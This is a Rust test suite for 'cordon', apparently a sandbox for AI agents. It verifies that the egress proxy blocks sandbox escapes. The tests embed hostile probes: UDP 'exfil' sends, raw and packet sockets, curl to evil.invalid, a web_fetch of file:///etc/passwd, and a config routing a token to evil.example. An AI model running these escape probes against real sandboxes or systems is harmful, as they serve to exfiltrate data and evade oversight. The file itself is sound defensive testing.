//! Egress through cordon's broker (`--allow`), from the command line, as
//! root, unprivileged and in a microVM (whose guest relays its proxy
//! connections to the host's broker over the control channel).
//!
//! The real thing first: `pip install` and `npm install` of real packages
//! from the registries this machine's tools are configured for, with the
//! preset allowed (works) and without (fails, and cordon says which host
//! was refused). No registry's name is written here: the presets read the
//! host tools' configuration, and the allowed hosts are read back from the
//! broker's own refusal line.
//!
//! Then the attacks, each with `@python` allowed so that the broker is
//! there to be got around: a direct connection to an address, DNS and UDP,
//! raw and packet sockets, IPv6, another port, a CONNECT to a host not
//! listed, an SNI that is not the CONNECT's host, and a listed name that
//! resolves to loopback. All fail, and the broker's is the only socket the
//! sandbox's network namespace holds.

use crate::common;

use std::time::Duration;

use common::Ctx;

/// `python3 -m venv` and pip inside, quietly; prints `installed VERSION`.
const PIP_INSTALL: &str = "python3 -m venv /tmp/v >/dev/null && \
    /tmp/v/bin/pip install --no-cache-dir -q six 2>&1 | tail -3; \
    /tmp/v/bin/python -c 'import six; print(\"installed\", six.__version__)'";

/// npm into a fresh package in /tmp; prints `installed VERSION`.
const NPM_INSTALL: &str = "mkdir -p /tmp/p && cd /tmp/p && \
    npm install --no-audit --no-fund --cache /tmp/npm-cache -s is-number 2>&1 | tail -3; \
    node -e 'console.log(\"installed\", require(\"is-number/package.json\").version)'";

/// A real install takes a while, most of all in a microVM under TCG.
fn install(t: &Ctx, allow: &str, script: &str) -> common::Out {
    let deadline = if t.vm() { 300 } else { 120 };
    t.run_deadline(
        &["--allow", allow],
        &["bash", "-c", script],
        Duration::from_secs(deadline),
    )
}

fn pip_installs_with_python_allowed_and_not_without(t: &Ctx) {
    let out = install(t, "@python", PIP_INSTALL);
    out.code(0).line_starts("installed ");
    let out = install(t, "@node", PIP_INSTALL);
    out.lacks("installed ")
        .stderr_has("cordon: network: ")
        .stderr_has("refused by policy (allowed: ");
}
attack!(pip_installs_with_python_allowed_and_not_without);

fn npm_installs_with_node_allowed_and_not_without(t: &Ctx) {
    let out = install(t, "@node", NPM_INSTALL);
    out.code(0).line_starts("installed ");
    let out = install(t, "@python", NPM_INSTALL);
    out.lacks("installed ")
        .stderr_has("cordon: network: ")
        .stderr_has("refused by policy (allowed: ");
}
attack!(npm_installs_with_node_allowed_and_not_without);

/// Each probe prints `NAME ok` when it got through and `NAME blocked: WHY`
/// otherwise; the proxy is 127.0.0.1:3128 in the sandbox.
const PROBES: &str = r#"
import socket, ssl, re
def probe(name, f):
    try:
        print(name, "ok", f())
    except Exception as e:
        print(name, "blocked:", type(e).__name__, e)

def tcp(addr, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect(addr)
    return "connected"

def connect(host, port=443):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        b = s.recv(4096)
        if not b:
            break
        head += b
    return s, head

# An allowed host, from the broker's own refusal line.
_, head = connect("not-listed.invalid")
allowed = re.search(rb"allowed: ([^:, ]+):443", head).group(1).decode()
print("refusal", head.split(b"\r\n")[0].decode())

def tls(sni):
    s, head = connect(allowed)
    if b" 200 " not in head.split(b"\r\n")[0]:
        raise Exception(head.split(b"\r\n")[0].decode())
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    t = ctx.wrap_socket(s, server_hostname=sni)
    return t.version()

probe("direct-ip", lambda: tcp(("1.1.1.1", 443)))
probe("direct-ipv6", lambda: tcp(("2606:4700:4700::1111", 443), socket.AF_INET6))
probe("loopback-ipv6-proxy", lambda: tcp(("::1", 3128), socket.AF_INET6))
probe("other-port", lambda: tcp(("127.0.0.1", 22)))
probe("dns", lambda: socket.getaddrinfo(allowed, 443))
def udp():
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"exfil", ("1.1.1.1", 53))
    return "sent"
probe("udp", udp)
# A microVM guest's root may open raw and packet sockets: they must have
# nowhere to go (no interface but lo); natively they cannot be opened.
def raw():
    r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    r.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("1.1.1.1", 0))
    return "sent"
probe("raw", raw)
def packet():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    others = [n for _, n in socket.if_nameindex() if n != "lo"]
    if not others:
        raise Exception("no interface but lo")
    return others
probe("packet", packet)
probe("sni-matches", lambda: tls(allowed))
probe("sni-differs", lambda: tls("evil.invalid"))
def not_listed():
    _, head = connect("evil.invalid")
    line = head.split(b"\r\n")[0].decode()
    if " 200 " in line:
        return line
    raise Exception(line)
probe("connect-not-listed", not_listed)
listening = [l.split()[1] for l in open("/proc/net/tcp").read().splitlines()[1:] if l.split()[3] == "0A"]
listening += [l.split()[1] for l in open("/proc/net/tcp6").read().splitlines()[1:] if l.split()[3] == "0A"]
print("listening", ",".join(listening))
"#;

fn nothing_but_the_broker_gets_out(t: &Ctx) {
    let out = t.run(&["--allow", "@python"], &["python3", "-c", PROBES]);
    out.code(0)
        .line("refusal HTTP/1.1 403 Forbidden")
        .line_starts("sni-matches ok ")
        // 127.0.0.1:3128, in /proc/net/tcp's notation; nothing else.
        .line("listening 0100007F:0C38");
    for name in [
        "direct-ip",
        "direct-ipv6",
        "loopback-ipv6-proxy",
        "other-port",
        "dns",
        "udp",
        "raw",
        "packet",
        "sni-differs",
        "connect-not-listed",
    ] {
        out.line_starts(&format!("{name} blocked: "));
    }
}
attack!(nothing_but_the_broker_gets_out);

/// A plain HTTP server on the host's loopback; `answer` makes the
/// response (head and body) for a request's path. Its port.
fn http_on_loopback(answer: impl Fn(u16, &str) -> String + Send + 'static) -> u16 {
    let listener = std::net::TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for mut c in listener.incoming().flatten() {
            use std::io::{Read, Write};
            // The request read first: a socket closed with unread bytes
            // is reset, and curl reports the reset, not the answer.
            let mut got = Vec::new();
            let mut buf = [0u8; 1024];
            while !got.windows(4).any(|w| w == b"\r\n\r\n") {
                match c.read(&mut buf) {
                    Ok(0) | Err(_) => break,
                    Ok(n) => got.extend_from_slice(&buf[..n]),
                }
            }
            let head = String::from_utf8_lossy(&got);
            let path = head.split_whitespace().nth(1).unwrap_or("/");
            let _ = c.write_all(answer(port, path).as_bytes());
        }
    });
    port
}

/// A plain HTTP service on the host's loopback answering `body` to every
/// request; its port.
fn host_service(body: &'static str) -> u16 {
    http_on_loopback(move |_, _| {
        format!(
            "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        )
    })
}

/// A name the policy lists that resolves to loopback (the host's own
/// services, or DNS rebinding) is refused unless private addresses are
/// allowed too.
fn a_listed_name_resolving_to_loopback_is_refused(t: &Ctx) {
    // A service on the host's loopback that the sandbox must not reach.
    let port = host_service("host-only-service");
    let rule = format!("localhost:{port}");
    let url = format!("http://localhost:{port}/");
    let out = t.run(
        &["--allow", &rule],
        &[
            "curl",
            "-sS",
            "--max-time",
            "10",
            "--noproxy",
            "",
            "-x",
            "http://127.0.0.1:3128",
            &url,
        ],
    );
    out.stderr_has(&format!(
        "cordon: network: localhost:{port} refused by policy"
    ))
    .lacks("host-only-service");
}
attack!(a_listed_name_resolving_to_loopback_is_refused);

/// `cordon exec ARGS` in `ws` as a user whose home is `home`, against the
/// scripted model `server`, with nothing else of this environment.
fn exec_as_user(
    ws: &std::path::Path,
    home: &std::path::Path,
    server: &cordon_testkit::ScriptedServer,
    args: &[&str],
) -> std::process::Output {
    std::process::Command::new(env!("CARGO_BIN_EXE_cordon"))
        .arg("exec")
        .args(args)
        .current_dir(ws)
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("HOME", home)
        .env("XDG_CONFIG_HOME", home.join("config"))
        .env("XDG_DATA_HOME", home.join("data"))
        .env("ANTHROPIC_BASE_URL", server.url())
        .env("ANTHROPIC_API_KEY", "sk-test-key-0000000000")
        .output()
        .unwrap()
}

/// Through `cordon exec`: the model is told what it may reach, and a
/// refused connection is a line in the tool's result it can act on.
#[test]
fn the_model_sees_the_policy_and_each_refusal() {
    use cordon_testkit::{Scenario, ScriptedServer, Turn};
    let ws = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    let server = ScriptedServer::start(
        Scenario::new()
            .turn(Turn::text("Fetching.").with_tool_call(
                "b1",
                "bash",
                serde_json::json!({"command": "curl -sS --max-time 10 https://evil.invalid/ >/dev/null; echo curl=$?"}),
            ))
            .turn(Turn::text("It was refused.").expect_tool_results(["b1"])),
    );
    let out = exec_as_user(
        ws.path(),
        home.path(),
        &server,
        &["--json", "--allow", "@python", "fetch it"],
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let bodies: Vec<String> = server
        .requests()
        .iter()
        .map(|r| r.body.to_string())
        .collect();
    // Issue 32: the hosts themselves, not cordon's name for them.
    let system = server.requests()[0].body["system"].to_string();
    assert!(
        system.contains("only through a proxy") && system.contains("pypi.org"),
        "the system prompt does not tell the policy: {system}"
    );
    assert!(!system.contains("@python"), "{system}");
    assert!(
        bodies[1].contains("network: evil.invalid:443 refused by policy (allowed: "),
        "the refusal is not in the tool result: {}",
        bodies[1]
    );
    // A typed event in `exec --json`, and the same record in the session log.
    let stdout = String::from_utf8_lossy(&out.stdout);
    let event = stdout
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .find(|v| v["type"] == "network_refused")
        .unwrap_or_else(|| panic!("no network_refused event: {stdout}"));
    assert_eq!(event["host"], "evil.invalid");
    assert_eq!(event["port"], 443);
    assert_eq!(event["tool_id"], "b1");
    assert_eq!(event["decision"], "refused");
    let sessions = home.path().join("data/cordon/sessions");
    let log = std::fs::read_dir(&sessions)
        .unwrap()
        .flatten()
        .filter(|e| e.path().extension().is_some_and(|x| x == "jsonl"))
        .map(|e| std::fs::read_to_string(e.path()).unwrap())
        .collect::<String>();
    assert!(
        log.contains("\"type\":\"network_refused\"") && log.contains("evil.invalid"),
        "the session log has no record of the refusal: {log}"
    );
}

/// A web server on the host's loopback with a page, a redirect to it, a
/// redirect to a host the policy does not list, and an image; its port.
fn web_site() -> u16 {
    http_on_loopback(|port, path| {
        let page = "<!doctype html><html><head><title>t</title><script>steal()</script></head>\
            <body><h1>Release notes</h1><p>Version <b>2.0</b> drops <code>--old</code>.</p></body></html>";
        let (status, extra, ty, body) = match path {
            "/" => (
                "200 OK",
                String::new(),
                "text/html; charset=utf-8",
                page.to_string(),
            ),
            "/moved" => (
                "302 Found",
                "Location: /\r\n".to_string(),
                "text/plain",
                String::new(),
            ),
            "/away" => (
                "302 Found",
                format!("Location: http://localhost:{port}/\r\n"),
                "text/plain",
                String::new(),
            ),
            _ => (
                "200 OK",
                String::new(),
                "image/png",
                "\u{89}PNG".to_string(),
            ),
        };
        format!(
            "HTTP/1.1 {status}\r\n{extra}Content-Type: {ty}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        )
    })
}

/// `web_fetch` reads a page the policy allows, through the sandbox's own
/// broker, as Markdown without its scripts; a redirect is followed and
/// checked again; a host the policy does not list is refused with the
/// broker's line, and reported as the sandbox's refusals are; a window of
/// a page says where to read on. Without a network it is not offered.
#[test]
fn web_fetch_reads_what_the_policy_allows_and_nothing_else() {
    use cordon_testkit::{Scenario, ScriptedServer, Turn};
    use serde_json::json;
    let ws = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    let port = web_site();
    let run =
        |server: &ScriptedServer, args: &[&str]| exec_as_user(ws.path(), home.path(), server, args);

    let site = format!("http://127.0.0.1:{port}");
    let fetch = |id: &str, args: serde_json::Value| (id.to_string(), args);
    let calls = [
        fetch("f1", json!({"url": format!("{site}/")})),
        fetch("f2", json!({"url": format!("{site}/moved")})),
        fetch("f3", json!({"url": format!("http://localhost:{port}/")})),
        fetch("f4", json!({"url": format!("{site}/away")})),
        fetch(
            "f5",
            json!({"url": format!("{site}/"), "start_index": 2, "max_length": 13}),
        ),
        fetch("f6", json!({"url": format!("{site}/logo.png")})),
        fetch("f7", json!({"url": "file:///etc/passwd"})),
    ];
    let mut first = Turn::text("Reading.");
    for (id, args) in &calls {
        first = first.with_tool_call(id, "web_fetch", args.clone());
    }
    let server = ScriptedServer::start(
        Scenario::new().turn(first).turn(
            Turn::text("Read.")
                .expect_tool_results(["f1", "f2", "f3", "f4", "f5", "f6", "f7"])
                .expect_contains("# Release notes\n\nVersion **2.0** drops `--old`.")
                .expect_contains(format!("network: localhost:{port} refused by policy"))
                .expect_contains("Release notes")
                .expect_contains("Characters 2–15 of")
                .expect_contains("call web_fetch again with start_index 15")
                .expect_contains("is image/png")
                .expect_contains("only http and https"),
        ),
    );
    let rule = format!("127.0.0.1:{port}");
    let out = run(&server, &["--json", "--allow", &rule, "read the notes"]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    server.assert_no_failures();
    let request = &server.requests()[1].body;
    let result = |id: &str| {
        request["messages"]
            .as_array()
            .unwrap()
            .iter()
            .flat_map(|m| m["content"].as_array().cloned().unwrap_or_default())
            .find(|c| c["tool_use_id"] == id)
            .unwrap_or_else(|| panic!("no result for {id}"))
    };
    let page = result("f1").to_string();
    assert!(!page.contains("steal"), "the script came through: {page}");
    assert!(
        result("f2").to_string().contains("Release notes"),
        "the redirect was not followed"
    );
    assert!(
        result("f4")
            .to_string()
            .contains(&format!("network: localhost:{port} refused by policy")),
        "a redirect off the allowed host went through: {}",
        result("f4")
    );
    for id in ["f3", "f4", "f6", "f7"] {
        assert_eq!(result(id)["is_error"], true, "{id}: {}", result(id));
    }
    let refused: Vec<serde_json::Value> = stdout
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .filter(|v: &serde_json::Value| v["type"] == "network_refused")
        .collect();
    assert!(
        refused
            .iter()
            .any(|e| e["host"] == "localhost" && e["port"] == port),
        "the refusal is not reported: {stdout}"
    );
    let tools = server.requests()[0].body["tools"].to_string();
    assert!(tools.contains("\"web_fetch\""), "{tools}");

    // No network: not offered, not named.
    let server = ScriptedServer::start(Scenario::new().turn(Turn::text("No web here.")));
    assert!(run(&server, &["hi"]).status.success());
    let first = server.requests()[0].body.to_string();
    assert!(!first.contains("web_fetch"), "{first}");

    // The host's network (`full`): straight out, as the sandbox's programs go.
    let server = ScriptedServer::start(
        Scenario::new()
            .turn(Turn::text("Reading.").with_tool_call(
                "f1",
                "web_fetch",
                json!({"url": format!("http://localhost:{port}/moved")}),
            ))
            .turn(
                Turn::text("Read.")
                    .expect_tool_results(["f1"])
                    .expect_contains("# Release notes"),
            ),
    );
    let out = run(
        &server,
        &["--set", "sandbox.network=full", "read the notes"],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    server.assert_no_failures();
}

/// `--network full` is the host's network, for trusted work: a service on
/// the host's loopback answers, and cordon says loudly what that means. A
/// microVM has no network device to share and refuses it.
fn full_network_is_the_hosts_with_a_warning(t: &Ctx) {
    let port = host_service("host-service");
    let url = format!("http://127.0.0.1:{port}/");
    let out = t.run(
        &["--network", "full"],
        &["curl", "-sS", "--max-time", "10", &url],
    );
    out.stderr_has("cordon: WARNING: --network full: the sandbox shares this machine's network");
    if t.vm() {
        out.code(125)
            .stderr_has("network mode full is for the native backend")
            .lacks("host-service");
    } else {
        out.code(0).line("host-service");
    }
}
attack!(full_network_is_the_hosts_with_a_warning);

/// `[[network.secrets]]` in the user's configuration: the value comes from
/// the host's environment when the sandbox starts; the sandbox sees the
/// placeholder in its variable and trusts the broker's CA, and the value
/// is nowhere inside. A project's file cannot set secrets, and a missing
/// variable is a clear error.
#[test]
fn configured_secrets_reach_the_sandbox_only_as_placeholders() {
    let ws = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    let config = home.path().join("config/cordon");
    std::fs::create_dir_all(&config).unwrap();
    std::fs::write(
        config.join("config.toml"),
        "[[network.secrets]]\nname = \"GH_TOKEN\"\nfrom_env = \"HOST_GH_TOKEN\"\nhosts = [\"api.forge.example\"]\n",
    )
    .unwrap();
    let value = "ghp_the-real-value-0123456789";
    let cordon = |env: &[(&str, &str)], script: &str| {
        let mut c = std::process::Command::new(env!("CARGO_BIN_EXE_cordon"));
        c.args(["run", "--", "bash", "-c", script])
            .current_dir(ws.path())
            .env_clear()
            .env("PATH", "/usr/bin:/bin")
            .env("HOME", home.path())
            .env("XDG_CONFIG_HOME", home.path().join("config"));
        for (k, v) in env {
            c.env(k, v);
        }
        c.output().unwrap()
    };
    let out = cordon(
        &[("HOST_GH_TOKEN", value)],
        &format!(
            "echo var=$GH_TOKEN; echo proxy=$https_proxy; test -s /etc/cordon/ca.pem && echo ca; \
             grep -rl '{value}' /etc /tmp /proc/[0-9]*/environ 2>/dev/null; echo searched"
        ),
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(stdout.contains("var=CORDON_SECRET_GH_TOKEN\n"), "{stdout}");
    assert!(stdout.contains("proxy=http://127.0.0.1:3128\n"), "{stdout}");
    assert!(stdout.contains("ca\n"), "{stdout}");
    assert!(
        stdout.ends_with("searched\n") && !stdout.contains("/proc"),
        "{stdout}"
    );
    assert!(!stdout.contains(value), "{stdout}");
    // Without the host's variable: a clear error, nothing started.
    let out = cordon(&[], "echo started");
    assert_eq!(out.status.code(), Some(78));
    assert!(
        String::from_utf8_lossy(&out.stderr)
            .contains("GH_TOKEN takes its value from $HOST_GH_TOKEN, which is not set"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // A project's file may not add one.
    std::fs::remove_file(config.join("config.toml")).unwrap();
    std::fs::create_dir_all(ws.path().join(".cordon")).unwrap();
    std::fs::write(
        ws.path().join(".cordon/config.toml"),
        "[[network.secrets]]\nname = \"GH_TOKEN\"\nfrom_env = \"HOST_GH_TOKEN\"\nhosts = [\"evil.example\"]\n",
    )
    .unwrap();
    let out = cordon(&[("HOST_GH_TOKEN", value)], "echo var=$GH_TOKEN");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("var=\n"), "{stdout}");
}
